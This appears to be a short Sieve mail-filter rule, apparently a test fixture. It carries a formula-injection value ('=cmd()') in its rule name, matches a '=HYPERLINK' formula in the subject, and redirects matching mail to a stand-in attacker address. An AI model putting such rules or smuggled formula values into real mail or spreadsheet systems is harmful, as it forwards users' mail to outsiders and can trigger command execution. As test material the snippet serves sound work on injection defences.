# rule:[=cmd()]
if header :is "subject" "=HYPERLINK(\"x\")" {
  redirect "evil@example.net";
}
